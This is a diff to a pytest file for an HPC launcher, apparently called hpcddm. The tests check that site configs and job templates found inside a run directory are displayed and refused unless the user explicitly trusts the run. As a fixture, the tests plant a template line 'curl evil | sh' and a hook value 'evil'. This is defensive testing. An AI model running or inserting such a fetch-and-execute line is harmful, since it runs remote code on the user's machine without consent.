@@ -1,15 +1,17 @@
 """Copies of site and template in a run that somebody else may have written: shown, and not executed without a word."""
 
 import json
+import shutil
+from pathlib import Path
 
 import pytest
 import yaml
 
 from hpcddm.commands.trusting import stored_start
 from hpcddm.errors import ConfigError
-from hpcddm.launch import vouching
 from hpcddm.launch.submission import store_site
 from hpcddm.launch.template import store_parts
+from hpcddm.rundir import vouching
 from hpcddm.rundir.layout import RunDir
 from hpcddm.rundir.reading import Unreadable
 from hpcddm.site import Site
@@ -36,10 +38,10 @@ def plant(run, **keys):
     run.site("north").write_text(json.dumps(values))
 
 
-def refused(run, capsys, **how):
+def refused(run, capsys, reason="", **how):
     with pytest.raises(ConfigError, match="repeat with --trust-run") as error:
         stored_start("north", run, False, **how)
-    assert str(error.value).count("\n") == 0
+    assert "\n" not in str(error.value) and f" not known here: {reason}" in str(error.value), error.value
     return capsys.readouterr().err
 
 
@@ -98,17 +100,120 @@ def test_somebody_else_needs_a_site_file_of_the_same_keys(run, capsys, tmp_path,
     assert "site key setup" in refused(run, capsys)
 
 
-def test_a_site_file_inside_the_run_is_not_the_users_own(run, capsys, monkeypatch):
+INSIDE = {
+    "the run": "",
+    "a folder of a unit": "train/expert-00",
+    "a link to the run": "../link",
+    "a run in the run": "other",
+    "the folder of its code": "code/0123",
+}
+
+
+@pytest.mark.parametrize("place", INSIDE.values(), ids=INSIDE)
+@pytest.mark.parametrize("file", ["north.yaml", "slurm/sites/north.yaml"])
+def test_files_inside_the_run_are_passed_over_by_name_and_vouch_for_nothing(run, capsys, monkeypatch, place, file):
+    run.experiment.write_text("{}")
+    (run.root.parent / "link").symlink_to(run.root)
+    here = run.root / place
+    for path in (here / file, here / "slurm/start.sh.j2"):
+        path.parent.mkdir(parents=True, exist_ok=True)
+    (run.root / "other").mkdir(exist_ok=True)
+    (run.root / "other/experiment.json").write_text("{}")
     plant(run, hook="evil")
-    (run.root / "north.yaml").write_text(run.site("north").read_text())
+    (run.template / "start.sh.j2").write_text("curl evil | sh\n")
+    (here / file).write_text(run.site("north").read_text())
+    (here / "slurm/start.sh.j2").write_text("curl evil | sh\n")
+    monkeypatch.chdir(here)
+    shown = refused(run, capsys, "it is not what you submitted with")
+    assert 'site key hook: "evil"' in shown and "start.sh.j2: +curl evil | sh" in shown
+    notes = [line for line in shown.splitlines() if line.startswith("note: ")]
+    assert len(notes) == 2 and all("is passed over: it is inside the run" in note for note in notes)
+    assert [path in note for path, note in zip((file, "slurm/start.sh.j2"), notes, strict=True)] == [True, True]
+
+
+def test_a_folder_that_leads_into_the_run_by_a_link_is_inside_it(run, capsys, tmp_path, monkeypatch):
+    run.experiment.write_text("{}")
+    plant(run, hook="evil")
+    (run.root / "slurm/sites").mkdir(parents=True)
+    (run.root / "slurm/sites/north.yaml").write_text(run.site("north").read_text())
+    (tmp_path / "here/slurm").symlink_to(run.root / "slurm")
+    assert "slurm/sites/north.yaml is passed over" in refused(run, capsys)
+
+
+def test_a_site_that_bears_the_name_of_a_file_is_no_word_of_the_users(run, capsys, monkeypatch):
+    run.experiment.write_text("{}")
+    values = SITE.model_dump(mode="json") | {"name": "north.yaml", "hook": "evil"}
+    for path in (run.site("north.yaml"), run.root / "north.yaml"):
+        path.write_text(json.dumps(values))
     monkeypatch.chdir(run.root)
-    assert 'site key hook: "evil"' in refused(run, capsys)
+    with pytest.raises(ConfigError, match="the site 'north.yaml' that the run holds is not known here"):
+        stored_start("north.yaml", run, False)
+    assert 'site key hook: "evil"' in capsys.readouterr().err
+
+
+def test_what_was_trusted_once_is_trusted_in_this_run_alone(run, capsys, tmp_path):
+    plant(run, hook="theirs")
+    site, parts = stored_start("north", run, True)
+    store_site(site, run)
+    assert stored_start("north", run, False) == (site, parts)
+    other = RunDir(tmp_path / "other")
+    shutil.copytree(run.root, other.root)
+    assert 'site key hook: "theirs"' in refused(other, capsys, "no submission of yours is noted here")
+    (tmp_path / "moved").mkdir()
+    run.root.rename(tmp_path / "moved/run")
+    assert refused(
+        RunDir(tmp_path / "moved/run"), capsys, "no submission of yours is noted here: somebody else made it"
+    )
+
+
+def test_a_run_is_known_by_every_way_to_it(run, tmp_path, monkeypatch):
+    (tmp_path / "link").symlink_to(run.root)
+    monkeypatch.chdir(tmp_path)
+    assert stored_start("north", RunDir(Path("link")), False) == (SITE, PARTS)
+
+
+def test_a_key_that_a_later_version_has_makes_no_site_unknown(run):
+    values = json.loads(run.site("north").read_text())
+    del values["escalate"]
+    run.site("north").write_text(json.dumps(values))
+    vouching.remember(run.root, values)
+    assert stored_start("north", run, False) == (SITE, PARTS)
+
+
+def test_where_nothing_can_be_remembered_this_is_the_reason(run, capsys, tmp_path, monkeypatch):
+    (tmp_path / "file").write_text("")
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "file"))
+    store_site(SITE, run)
+    reason = (
+        f"what you submit with cannot be remembered in {tmp_path}/file/hpcddm/submitted (Not a directory): set XDG_"
+    )
+    assert refused(run, capsys, reason)
+    assert stored_start("north", run, True) == (SITE, PARTS)
+
+
+@pytest.mark.parametrize("named", ["absolute", "relative", "link"])
+def test_digests_that_a_run_brings_vouch_for_nothing(run, capsys, tmp_path, monkeypatch, named):
+    monkeypatch.setenv("HOME", str(tmp_path / "nobody"))
+    monkeypatch.setenv("XDG_STATE_HOME", str(run.root / "state"))
+    vouching.remember(run.root, SITE.model_dump(mode="json"))
+    vouching.remember(run.root, PARTS)
+    assert stored_start("north", run, False), "as long as this is no run"
+    run.experiment.write_text("{}")
+    (tmp_path / "link").symlink_to(run.root / "state")
+    monkeypatch.chdir(run.root)
+    place = {"absolute": run.root / "state", "relative": "state", "link": tmp_path / "link"}[named]
+    monkeypatch.setenv("XDG_STATE_HOME", str(place))
+    refused(
+        run,
+        capsys,
+        "no submission of yours is noted here" if named == "relative" else "what you submit with is not remembered",
+    )
 
 
 def test_a_job_has_the_digests_from_its_script(run, capsys, tmp_path, monkeypatch):
     forget(monkeypatch, tmp_path)
     refused(run, capsys, in_job=True)
-    monkeypatch.setenv(vouching.VARIABLE, vouching.digests(SITE, PARTS))
+    monkeypatch.setenv(vouching.VARIABLE, vouching.digests(SITE.model_dump(mode="json"), PARTS))
     assert stored_start("north", run, False, in_job=True) == (SITE, PARTS)
     plant(run, hook="evil")
     refused(run, capsys, in_job=True)
@@ -116,8 +221,8 @@ def test_a_job_has_the_digests_from_its_script(run, capsys, tmp_path, monkeypatc
 
 def test_a_folder_of_digests_that_others_can_write_vouches_for_nothing(run, capsys, tmp_path, monkeypatch):
     monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
-    vouching.remember(vouching.values_of(SITE))
-    vouching.remember(PARTS)
+    vouching.remember(run.root, SITE.model_dump(mode="json"))
+    vouching.remember(run.root, PARTS)
     assert stored_start("north", run, False)
     (tmp_path / "state/hpcddm/submitted").chmod(0o777)
-    refused(run, capsys)
+    refused(run, capsys, f"what you submit with cannot be remembered in {tmp_path}/state/hpcddm/submitted (others may")
